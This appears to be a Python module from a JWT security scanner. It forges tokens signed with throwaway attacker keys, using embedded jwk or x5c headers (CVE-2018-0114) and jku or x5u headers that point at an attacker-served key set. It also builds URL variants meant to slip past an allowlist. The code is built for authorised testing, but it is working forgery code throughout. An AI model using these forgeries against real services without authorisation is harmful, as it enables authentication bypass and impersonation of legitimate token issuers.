"""Forgeries that carry or point at an attacker key: embedded ``jwk``/``x5c``, ``jku``/``x5u``.

Why separate from ``forge``: these need ephemeral key pairs and X.509 certificates. Key pairs
are generated once per process (RSA-2048 generation costs ~50–200 ms) — they are throwaway
attacker keys, never secrets worth rotating.
"""

from __future__ import annotations

import datetime as dt
import functools
import ipaddress
import json
import secrets
from typing import Any
from urllib.parse import urlsplit

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import NameOID

from authsift.jose.forge import Forgery
from authsift.jose.jws import CompactJws, parse_compact
from authsift.jose.keys import public_jwk
from authsift.jose.sign import sign_over_segment


@functools.cache
def ephemeral_rsa_key() -> rsa.RSAPrivateKey:
    """A throwaway RSA-2048 attacker key (RFC 7518 §3.3: "2048 bits or larger MUST be used")."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


@functools.cache
def ephemeral_ec_key() -> ec.EllipticCurvePrivateKey:
    """A throwaway P-256 attacker key for ES256 variants."""
    return ec.generate_private_key(ec.SECP256R1())


def self_signed_certificate(key: rsa.RSAPrivateKey, common_name: str) -> x509.Certificate:
    """A one-day self-signed certificate whose subject imitates the legitimate issuer."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name[:64] or "authsift")])
    now = dt.datetime.now(dt.UTC)
    return (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(minutes=5))
        .not_valid_after(now + dt.timedelta(days=1))
        .sign(key, hashes.SHA256())
    )


def embedded_jwk(token: str) -> list[Forgery]:
    """Tokens signed by our key and carrying it in the header (CHECKS #10, CVE-2018-0114).

    RFC 7515 §4.1.3 ``jwk`` / §4.1.6 ``x5c`` merely identify a key; RFC 8725 §3.8 requires the
    key to belong to the issuer and ASVS V9.1.3 an allowlist. A verifier that trusts the
    embedded key accepts anything. Variants: RS256 and ES256 ``jwk`` with ``kid`` kept and
    removed, and RS256 with ``x5c`` holding a self-signed certificate named after ``iss``.
    """
    parsed = parse_compact(token)
    original_kid = parsed.header.get("kid")
    forgeries: list[Forgery] = []
    for alg, key in (("RS256", ephemeral_rsa_key()), ("ES256", ephemeral_ec_key())):
        kid_options: list[tuple[str, Any]] = [("kid removed", None)]
        if original_kid is not None:
            kid_options.insert(0, ("kid kept", original_kid))
        for kid_label, kid in kid_options:
            header = _header_without(parsed, "kid", "jku", "x5u", "x5c", "jwk")
            jwk = public_jwk(key, kid=kid if isinstance(kid, str) else None)
            header.update({"alg": alg, "jwk": jwk})
            if kid is not None:
                header["kid"] = kid
            label = f"{alg} with our key in header jwk, {kid_label}"
            forgeries.append((label, sign_over_segment(header, parsed.raw_payload, key, alg)))
    rsa_key = ephemeral_rsa_key()
    certificate = self_signed_certificate(rsa_key, _issuer_name(parsed))
    der = certificate.public_bytes(serialization.Encoding.DER)
    header = _header_without(parsed, "kid", "jku", "x5u", "x5c", "jwk")
    header.update({"alg": "RS256", "x5c": [_std_b64(der)]})
    if original_kid is not None:
        header["kid"] = original_kid
    label = "RS256 with a self-signed certificate in header x5c"
    forgeries.append((label, sign_over_segment(header, parsed.raw_payload, rsa_key, "RS256")))
    return forgeries


def remote_key_url(token: str, base_url: str) -> tuple[list[Forgery], dict[str, bytes]]:
    """``jku``/``x5u`` pointing at files we serve at ``base_url`` (CHECKS #11).

    RFC 7515 §4.1.2 (``jku``) and §4.1.5 (``x5u``) are URLs the verifier *may* fetch; RFC 8725
    §3.10 and 8725bis require an allowlist and refusing loopback/local addresses. Returns the
    forgeries and the files to serve (path → body): a JWKS holding our RSA key under a unique
    ``kid`` and a PEM certificate. Each call uses a fresh random path, so a fetch in the
    listener's log is attributable to this probe. Allowlist-bypass variants
    (``https://trusted@oob/``, ``https://trusted.oob/``) are added when a trusted host is known
    from the original ``jku``/``x5u`` or ``iss`` (the subdomain form only for a DNS-named oob).
    """
    parsed = parse_compact(token)
    base = base_url.rstrip("/")
    nonce = secrets.token_hex(8)
    kid = f"authsift-{nonce}"
    key = ephemeral_rsa_key()
    jwks_path, cert_path = f"/jku/{nonce}/jwks.json", f"/x5u/{nonce}/cert.pem"
    jwks_body = json.dumps({"keys": [{**public_jwk(key, kid=kid), "alg": "RS256", "use": "sig"}]})
    certificate = self_signed_certificate(key, _issuer_name(parsed))
    files = {
        jwks_path: jwks_body.encode("utf-8"),
        cert_path: certificate.public_bytes(serialization.Encoding.PEM),
    }
    urls = {"jku": base + jwks_path, "x5u": base + cert_path}
    forgeries: list[Forgery] = []
    for member, url in urls.items():
        for variant_label, variant_url in _url_variants(parsed, member, url):
            header = _header_without(parsed, "kid", "jku", "x5u", "x5c", "jwk")
            header.update({"alg": "RS256", "kid": kid, member: variant_url})
            label = f"{member} → {variant_label}"
            forgeries.append((label, sign_over_segment(header, parsed.raw_payload, key, "RS256")))
    return forgeries, files


def _url_variants(parsed: CompactJws, member: str, url: str) -> list[tuple[str, str]]:
    variants = [(url, url)]
    trusted = _trusted_host(parsed, member)
    if trusted is None:
        return variants
    parts = urlsplit(url)
    rest = parts.path + (f"?{parts.query}" if parts.query else "")
    variants.append(
        (f"{trusted}@oob userinfo bypass", f"{parts.scheme}://{trusted}@{parts.netloc}{rest}")
    )
    if parts.hostname and not _is_ip(parts.hostname):
        variants.append(
            (f"{trusted}.oob subdomain bypass", f"{parts.scheme}://{trusted}.{parts.netloc}{rest}")
        )
    return variants


def _trusted_host(parsed: CompactJws, member: str) -> str | None:
    candidates = [parsed.header.get(member), (parsed.payload or {}).get("iss")]
    for candidate in candidates:
        if isinstance(candidate, str) and (host := urlsplit(candidate).hostname):
            return host
    return None


def _issuer_name(parsed: CompactJws) -> str:
    issuer = (parsed.payload or {}).get("iss")
    if isinstance(issuer, str) and issuer:
        return urlsplit(issuer).hostname or issuer
    return "authsift"


def _header_without(parsed: CompactJws, *names: str) -> dict[str, Any]:
    return {k: v for k, v in parsed.header.items() if k not in names}


def _std_b64(data: bytes) -> str:
    """RFC 7515 §4.1.6: x5c entries are "base64-encoded (Section 4 of [RFC4648] -- not
    base64url-encoded) DER"."""
    import base64

    return base64.b64encode(data).decode("ascii")


def _is_ip(host: str) -> bool:
    try:
        ipaddress.ip_address(host)
    except ValueError:
        return False
    return True
